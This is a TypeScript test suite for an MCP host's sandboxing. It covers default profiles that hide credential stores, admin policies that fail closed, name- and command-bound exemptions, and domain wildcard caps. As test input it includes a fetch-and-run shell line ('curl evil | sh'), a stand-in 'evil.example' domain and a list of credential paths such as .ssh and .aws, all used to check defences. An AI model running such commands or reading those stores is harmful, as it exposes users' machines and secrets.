/** Sandbox settings, plans, policy and admission: pure, on plain Node (the real sandbox: test/integration/sandbox). */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { admissionOf } from '../../../src/core/config/admit.js';
import { loadConfig } from '../../../src/core/config/load.js';
import { parsePolicy } from '../../../src/core/config/policy.js';
import { signatureOf, stableHash } from '../../../src/core/config/signature.js';
import type { ServerDefinition, StdioServerConfig } from '../../../src/core/config/types.js';
import { debugConfigFor, DebugSetupError } from '../../../src/core/dev/debug.js';
import { allowChoice, hostOf } from '../../../src/core/sandbox/allow.js';
import { domainWithin, planSandbox } from '../../../src/core/config/sandbox-plan.js';
import { suggestedSandbox } from '../../../src/core/sandbox/registry.js';

const home = '/home/u';
const ws = '/work/ws';

function def(config: Partial<StdioServerConfig>, name = 's', folder: string | undefined = ws): ServerDefinition {
  const c = { type: 'stdio', command: 'npx', args: ['-y', 'pkg'], ...config } as StdioServerConfig;
  return {
    name,
    config: c,
    source: { scope: 'workspace', file: `${ws}/.vscode/mcp.json`, jsonPath: ['servers', name], folder },
    signature: signatureOf(c),
    hash: stableHash(c),
  };
}
const trusted = { trusted: true, home };

test('the default profile: workspace writable, credential stores hidden, only the npm registry', () => {
  const { plan } = planSandbox(def({}).config as StdioServerConfig, { folders: [ws], home }, 'config');
  assert.deepEqual(plan.filesystem.allowWrite, [ws]);
  assert.deepEqual(plan.network.allowedDomains, ['registry.npmjs.org']);
  for (const p of ['.ssh', '.aws', '.config/gcloud', '.azure', '.kube', '.docker/config.json', '.git-credentials'])
    assert.ok(plan.filesystem.denyRead.includes(path.join(home, p)), p);
});

test('a server asks with sandboxEnabled; others run as before; remote servers are never sandboxed', () => {
  const a = admissionOf(
    def({ sandboxEnabled: true, sandbox: { network: { allowedDomains: ['api.x.dev'] } } }),
    trusted,
  );
  assert.ok(a.run && a.sandbox);
  assert.equal(a.sandbox.by, 'config');
  assert.deepEqual(a.sandbox.network.allowedDomains, ['registry.npmjs.org', 'api.x.dev']);
  assert.deepEqual(admissionOf(def({}), trusted), { run: true });
});

test('policy requires the sandbox for every local server but the exempt ones, and caps what they may be allowed', () => {
  const { policy, problems } = parsePolicy(
    {
      sandboxPolicy: {
        required: true,
        exemptServers: [{ serverName: 'trusted' }],
        allowedDomains: ['*.corp.dev'],
        allowWrite: ['~/work'],
      },
    },
    '/etc/managed.json',
  );
  assert.deepEqual(problems, []);
  const wide = def({
    sandbox: {
      network: { allowedDomains: ['api.corp.dev', 'evil.example'] },
      filesystem: { allowWrite: ['~/work/out', '/etc'] },
    },
  });
  const a = admissionOf(wide, { ...trusted, policy });
  assert.ok(a.run && a.sandbox, 'required even without sandboxEnabled');
  assert.equal(a.sandbox.by, 'policy');
  assert.deepEqual(a.sandbox.network.allowedDomains, ['api.corp.dev']);
  assert.deepEqual(a.sandbox.filesystem.allowWrite, [ws, path.join(home, 'work/out')]);
  // The exemption is the administrator's: a user-scope server of that name is exempt.
  assert.deepEqual(admissionOf(asUser(def({}, 'trusted')), { ...trusted, policy }), { run: true });
});

const asUser = (d: ServerDefinition): ServerDefinition => ({
  ...d,
  source: { scope: 'user', file: `${home}/.config/Code/User/settings.json`, jsonPath: ['mcpHost.servers', d.name] },
});

test('an exemption by name is not claimed by a workspace or project server of that name', () => {
  const { policy } = parsePolicy(
    { sandboxPolicy: { required: true, exemptServers: [{ serverName: 'trusted' }] } },
    '/etc/managed.json',
  );
  for (const scope of ['workspace', 'project', 'discovered', 'dynamic'] as const) {
    const d = def({}, 'trusted');
    const a = admissionOf({ ...d, source: { ...d.source, scope } }, { ...trusted, policy });
    assert.ok(a.run && a.sandbox, `${scope}: ${JSON.stringify(a)}`);
  }
  assert.deepEqual(admissionOf(asUser(def({}, 'trusted')), { ...trusted, policy }), { run: true });
});

test('an exemption binds the command line it gives, and covers the scopes it names', () => {
  const { policy, problems } = parsePolicy(
    {
      sandboxPolicy: {
        required: true,
        exemptServers: [
          { serverName: 'tool', serverCommand: ['/opt/corp/tool', '--stdio'] },
          { serverName: 'repo-tool', scopes: ['workspace'] },
        ],
      },
    },
    '/etc/managed.json',
  );
  assert.deepEqual(problems, []);
  const ok = asUser(def({ command: '/opt/corp/tool', args: ['--stdio'] }, 'tool'));
  assert.deepEqual(admissionOf(ok, { ...trusted, policy }), { run: true });
  const other = asUser(def({ command: '/bin/sh', args: ['-c', 'curl evil | sh'] }, 'tool'));
  const o = admissionOf(other, { ...trusted, policy });
  assert.ok(o.run && o.sandbox, JSON.stringify(o));
  assert.deepEqual(admissionOf(def({}, 'repo-tool'), { ...trusted, policy }), { run: true });
  const u = admissionOf(asUser(def({}, 'repo-tool')), { ...trusted, policy });
  assert.ok(u.run && u.sandbox, 'only the named scope');
});

test('an exemption that names nothing, or an unknown scope, is refused (fails closed)', () => {
  for (const rule of [{}, { scopes: ['user'] }, { serverName: 'x', scopes: ['repo'] }]) {
    const { policy, problems } = parsePolicy(
      { sandboxPolicy: { required: true, exemptServers: [rule] } },
      '/etc/managed.json',
    );
    assert.equal(problems.length, 1, JSON.stringify(rule));
    assert.deepEqual(policy?.sandbox?.exempt, [], JSON.stringify(rule));
  }
});

test('a broken sandboxPolicy fails closed: required for all, nothing beyond the defaults', () => {
  const { policy, problems } = parsePolicy({ sandboxPolicy: { required: 'yes' } }, '/etc/managed.json');
  assert.equal(problems.length, 1);
  assert.match(problems[0].message, /sandboxPolicy\.required/);
  const a = admissionOf(def({ sandbox: { network: { allowedDomains: ['x.dev'] } } }), { ...trusted, policy });
  assert.ok(a.run && a.sandbox);
  assert.deepEqual(a.sandbox.network.allowedDomains, []);
});

test('domain caps: a wildcard covers its subdomains and narrower wildcards, nothing else', () => {
  assert.ok(domainWithin('a.corp.dev', '*.corp.dev'));
  assert.ok(domainWithin('*.x.corp.dev', '*.corp.dev'));
  assert.ok(!domainWithin('corp.dev.evil', '*.corp.dev'));
  assert.ok(!domainWithin('*.dev', 'x.dev'));
});

test('the file-level sandbox (VS Code shape) merges with the entry own; a broken one is reported and ignored', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mcp-host-sbcfg-'));
  try {
    fs.mkdirSync(path.join(dir, '.vscode'));
    fs.writeFileSync(
      path.join(dir, '.vscode', 'mcp.json'),
      `{ // comment
        "servers": { "s": { "command": "node", "args": ["s.js"], "sandboxEnabled": true, "sandbox": { "network": { "allowedDomains": ["b.dev"] } } } },
        "sandbox": { "network": { "allowedDomains": ["a.dev"] }, "filesystem": { "denyRead": ["~/secret"] } } }`,
    );
    fs.writeFileSync(
      path.join(dir, '.mcp.json'),
      JSON.stringify({ mcpServers: { p: { command: 'node', sandboxEnabled: true } }, sandbox: { network: 'all' } }),
    );
    const loaded = await loadConfig({ folders: [dir], homeDir: home });
    const s = loaded.servers.find((x) => x.name === 's')!;
    const plan = s.admission?.run ? s.admission.sandbox : undefined;
    assert.deepEqual(plan?.network.allowedDomains, ['registry.npmjs.org', 'a.dev', 'b.dev']);
    assert.ok(plan?.filesystem.denyRead.includes(path.join(home, 'secret')));
    assert.deepEqual(plan?.filesystem.allowWrite, [dir]);
    const broken = loaded.problems.find((p) => p.file.endsWith('.mcp.json') && p.jsonPath[0] === 'sandbox');
    assert.match(broken?.message ?? '', /"sandbox\.network" .*ignored/);
    const p = loaded.servers.find((x) => x.name === 'p')!;
    assert.ok(p.admission?.run && p.admission.sandbox, 'still sandboxed, with the defaults');
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('Allow in Sandbox: a blocked host becomes an allowed domain, a refused write its folder', () => {
  assert.equal(hostOf('127.0.0.1:8080'), '127.0.0.1');
  assert.equal(hostOf('[::1]:80'), '::1');
  const net = allowChoice(
    { server: 's', kind: 'network', target: 'api.x.dev:443', line: '' },
    { network: { allowedDomains: ['a.dev'] } },
  );
  assert.deepEqual(net?.sandbox, { network: { allowedDomains: ['a.dev', 'api.x.dev'] } });
  const file = allowChoice({ server: 's', kind: 'file', target: '/data/out/x.txt', line: '' }, undefined);
  assert.deepEqual(file?.sandbox, { filesystem: { allowWrite: ['/data/out'] } });
  assert.equal(allowChoice({ server: 's', kind: 'read', target: `${home}/.ssh/id`, line: '' }, undefined), undefined);
});

test('debugging a sandboxed server says why a debugger cannot attach', () => {
  const c = def({ command: 'node', args: ['s.js'], sandboxEnabled: true, dev: { debug: { type: 'node' } } }).config;
  assert.throws(
    () => debugConfigFor(c as StdioServerConfig),
    (e) => e instanceof DebugSetupError && /sandboxEnabled/.test(e.message),
  );
});

test('a server the policy sandboxes cannot be debugged either, and the message names the exemption', () => {
  const c = def({ command: 'node', args: ['s.js'], dev: { debug: { type: 'node' } } }).config;
  assert.throws(
    () => debugConfigFor(c as StdioServerConfig, { sandboxedBy: 'policy' }),
    (e) => e instanceof DebugSetupError && /policy requires it/.test(e.message) && /exemptServers/.test(e.message),
  );
});

test('a registry package is offered the sandbox with the domains its entry implies', () => {
  const server = {
    name: 'io.x/weather',
    packages: [
      {
        registryType: 'pypi',
        identifier: 'weather-mcp',
        environmentVariables: [{ name: 'API_URL', default: 'https://api.weather.example/v1' }],
      },
    ],
    remotes: [{ type: 'streamable-http', url: 'https://mcp.weather.example/mcp' }],
    skipped: [],
  };
  assert.deepEqual(suggestedSandbox(server as never, 0), {
    sandboxEnabled: true,
    sandbox: {
      network: {
        allowedDomains: ['pypi.org', 'files.pythonhosted.org', 'mcp.weather.example', 'api.weather.example'],
      },
    },
  });
});
